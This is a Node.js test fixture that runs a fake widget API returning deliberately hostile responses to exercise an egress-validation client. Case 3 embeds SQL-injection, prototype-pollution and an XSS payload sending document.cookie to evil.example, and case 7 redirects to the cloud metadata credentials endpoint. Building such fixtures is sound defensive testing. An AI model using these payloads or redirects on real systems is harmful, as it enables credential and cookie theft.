#!/usr/bin/env node
// A fake third-party API for the egress example and its tests: "Acme widgets", which answers
// some widget ids honestly and the others the way a compromised or careless provider would.
//
//   node examples/egress/provider.mjs [--port 4010]
//
// | id | answer |
// | -- | ------ |
// | 1  | the legitimate widget |
// | 2  | wrong types (id as a string, price as a word) |
// | 3  | extra fields carrying injection payloads (SQL, script, __proto__, an isAdmin flag) |
// | 4  | a body declared as 8 MiB |
// | 5  | a body of 4 MiB in chunks, no declared length |
// | 6  | a redirect to http://127.0.0.1:1/ (another origin, on loopback) |
// | 7  | a redirect to the cloud metadata service, http://169.254.169.254/ |
// | 8  | a body that drips one byte every 200 ms |
// | 9  | a redirect to widget 1 on the same origin |
// | 10 | a date-time field that is not a date-time |
// | 11 | a name of 10 000 characters (the spec allows 64) |
// | 12 | an HTML page where JSON is declared |
// | 13 | a status the spec does not declare (418) |
// | 14 | a redirect to widget 9 (which redirects again) |
//
// Every request is recorded (method, url, headers) so tests can see what reached the provider.
import { Buffer } from 'node:buffer';
import { createServer } from 'node:http';
import process from 'node:process';
import { clearInterval, setInterval, setTimeout } from 'node:timers';
import { pathToFileURL } from 'node:url';

const WIDGET = { id: 1, name: 'sprocket', price: 9.5, updated: '2026-01-01T00:00:00Z' };

/** @param {{ port?: number, host?: string }} [options] */
export async function startProvider(options = {}) {
  /** @type {{ method: string, url: string, headers: import('node:http').IncomingHttpHeaders }[]} */
  const requests = [];
  const timers = new Set();
  const server = createServer((req, res) => {
    requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    const m = /^\/v1\/widgets\/(\d+)(?:\?.*)?$/.exec(req.url ?? '');
    const id = m === null ? 0 : Number(m[1]);
    const json = (status, value, extra = {}) => {
      const body = typeof value === 'string' ? value : JSON.stringify(value);
      res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...extra });
      res.end(body);
    };
    const redirect = (location) => { res.writeHead(302, { location, 'content-length': 0 }); res.end(); };
    switch (id) {
      case 1: return json(200, WIDGET);
      case 2: return json(200, { ...WIDGET, id: '2', price: 'cheap' });
      // Written as text: a JSON.stringify of an object literal would not keep "__proto__" as a key.
      case 3: return json(200, `{"id":3,"name":"sprocket","price":9.5,"isAdmin":true,"note":"'; DROP TABLE users; --","html":"<script>fetch('//evil.example/'+document.cookie)</script>","__proto__":{"polluted":true}}`);
      case 4:
        res.writeHead(200, { 'content-type': 'application/json', 'content-length': 8 * 1024 * 1024 });
        return res.end();
      case 5: {
        res.writeHead(200, { 'content-type': 'application/json' });
        const chunk = Buffer.alloc(64 * 1024, 0x20);
        res.write('{"id":5,"name":"');
        let sent = 0;
        const more = () => {
          while (sent < 64 && !res.destroyed) {
            sent++;
            if (!res.write(chunk)) return res.once('drain', more);
          }
          res.end('","price":1}');
        };
        res.on('error', () => {});
        return more();
      }
      case 6: return redirect('http://127.0.0.1:1/');
      case 7: return redirect('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
      case 8: {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.write('{"id":8,"name":"');
        const timer = setInterval(() => { if (!res.destroyed) res.write('a'); }, 200);
        timers.add(timer);
        const stop = () => { clearInterval(timer); timers.delete(timer); };
        res.on('close', stop);
        return setTimeout(stop, 60_000).unref();
      }
      case 9: return redirect('/v1/widgets/1');
      case 10: return json(200, { ...WIDGET, id: 10, updated: 'yesterday' });
      case 11: return json(200, { ...WIDGET, id: 11, name: 'x'.repeat(10_000) });
      case 12:
        res.writeHead(200, { 'content-type': 'text/html' });
        return res.end('<html><script>alert(1)</script></html>');
      case 13: return json(418, { message: 'I am a teapot' });
      case 14: return redirect('/v1/widgets/9');
      default: return json(404, { message: 'no such widget' });
    }
  });
  await new Promise((resolve) => server.listen(options.port ?? 0, options.host ?? '127.0.0.1', resolve));
  const address = /** @type {import('node:net').AddressInfo} */ (server.address());
  return {
    url: `http://127.0.0.1:${address.port}`,
    port: address.port,
    requests,
    close: () => new Promise((resolve) => {
      for (const t of timers) clearInterval(t);
      server.closeAllConnections();
      server.close(() => resolve(undefined));
    }),
  };
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const at = process.argv.indexOf('--port');
  const provider = await startProvider({ port: at === -1 ? 4010 : Number(process.argv[at + 1]) });
  process.stdout.write(`fake provider (Acme widgets) on ${provider.url}/v1 — widget ids 1 to 14, see the top of this file\n`);
}
